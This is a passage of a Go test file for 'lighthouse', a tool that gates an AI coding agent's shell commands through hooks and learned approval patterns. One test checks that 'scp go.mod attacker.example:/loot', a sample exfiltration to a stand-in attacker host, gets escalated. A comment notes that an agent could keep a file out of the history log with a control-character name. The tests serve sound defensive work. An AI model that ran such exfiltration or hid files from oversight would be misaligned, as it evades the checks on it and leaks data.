			t.Errorf("%s was allowed by the learned pattern", c)
		}
	}
	// A URL's user and every option of a copy are part of its pattern (a
	// third check found rsync://root@ and --port generalised away).
	done = claudeHookAsync(t, pre, agentEnv, event("rsync --port 873 go.mod rsync://backup@deploy.example/m", "toolu_rsync1"))
	r = g.waitPending(project, "rsync --port 873 go.mod rsync://backup@deploy.example/m")
	wantIn(t, "review approve --for-pattern of rsync", g.run(project, 0, "review", "approve", r.ID[:8], "-m", "backups", "--for-pattern"),
		"--port=873", "<url:rsync://backup@deploy.example>")
	if res := <-done; res.code != 0 || res.denied(t) != "" {
		t.Fatalf("the approved rsync: exit %d %s %s", res.code, res.stdout, res.stderr)
	}
	if res := claudeHook(t, pre, quick, event("rsync --port 873 main.go rsync://backup@deploy.example/m", "toolu_rsync2")); res.denied(t) != "" {
		t.Errorf("the same rsync of another file: %s", res.denied(t))
	}
	for i, c := range []string{"rsync --port 873 go.mod rsync://root@deploy.example/m", "rsync --port 8873 go.mod rsync://backup@deploy.example/m"} {
		if res := claudeHook(t, pre, quick, event(c, fmt.Sprintf("toolu_rsync_other%d", i))); res.denied(t) == "" {
			t.Errorf("%s was allowed by the learned pattern", c)
		}
	}
	// policy explain says what the gate does, learned decisions included
	// (it showed the rules' escalate for a call the gate allowed).
	wantIn(t, "policy explain of the learned copy", g.run(project, 0, "policy", "explain", "--bash", "scp go.mod deploy.example:/srv/other/"),
		"decision: allow (learned; the rules alone: escalate)", "rule:     learned:")
	wantIn(t, "policy explain of another host", g.run(project, 0, "policy", "explain", "--bash", "scp go.mod attacker.example:/loot"),
		"decision: escalate\n")
}

// TestDoctorPointsToTheFix: with the hooks' token file gone (the state
// directory deleted, or the file removed), doctor says to run init claude
// again, which brings it back.
func TestDoctorPointsToTheFix(t *testing.T) {
	t.Parallel()
	g, project, _ := claudeShop(t)
	if err := os.Remove(filepath.Join(g.data, "agents", "claude.token")); err != nil {
		t.Fatal(err)
	}
	wantIn(t, "doctor without the token file", g.run(project, 1, "doctor"), "FAIL", "run `lighthouse init claude --dir "+g.project+"` again")
	g.run(project, 0, "init", "claude")
	if out := g.run(project, 0, "doctor"); strings.Contains(out, "FAIL") {
		t.Errorf("doctor after init claude:\n%s", out)
	}
}

// TestStatusNamesWhatIsNotRecorded: a file on disk the writer refuses to
// record (a name with a control character) is named by `status`, not only
// in up's log (a walkthrough's agent could keep such a file out of history
// with nothing showing it).
func TestStatusNamesWhatIsNotRecorded(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	writeProjectFile(t, project, "we\nird.txt", "hidden\n")
	eventually(t, "status names the refused file", func() error {
		if out := g.run(project, 0, "status"); !strings.Contains(out, "not recorded") || !strings.Contains(out, `"we\nird.txt": 400 path_control_char`) {
			return fmt.Errorf("status:\n%s", out)
		}
		return nil
	})
}

// TestGitPointerFilesAreNotRecorded: the .git file git puts in a worktree
// (or a submodule) is git's own, like the .git directory, at any depth: the
// watcher records the worktree's files and not it.
func TestGitPointerFilesAreNotRecorded(t *testing.T) {
	t.Parallel()
	g, project := upShop(t)
	git := func(args ...string) {
		cmd := exec.Command("git", append([]string{"-c", "user.email=dev@example.com", "-c", "user.name=dev"}, args...)...)
		cmd.Dir = project
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	git("init", "-q")
	git("add", "main.go")
	git("commit", "-qm", "first")
	git("worktree", "add", "-q", "wt")
	if _, err := os.Stat(filepath.Join(project, "wt", ".git")); err != nil {
		t.Fatal(err)
	}
	g.waitCat(project, "wt/main.go", "package main\n")
	out := g.run(project, 0, "tree")
	for _, line := range strings.Split(out, "\n") {
		if f := strings.Fields(line); len(f) > 0 && (f[len(f)-1] == "wt/.git" || strings.HasPrefix(f[len(f)-1], ".git/")) {
			t.Errorf("the log has git's own file %s:\n%s", f[len(f)-1], out)
		}
	}
}

// waitCat waits until `lighthouse cat PATH`, run in dir, prints want: the
// watcher has recorded the file and the reader serves it.
func (g *guarded) waitCat(dir, path, want string) {
	g.t.Helper()
	eventually(g.t, "lighthouse cat "+path, func() error {
		cmd := exec.Command(g.bin, "cat", path)
		cmd.Dir, cmd.Env = dir, g.env()
		if out, err := cmd.CombinedOutput(); err != nil || string(out) != want {
			return fmt.Errorf("cat %s: %v %s", path, err, out)
		}
		return nil
	})
}
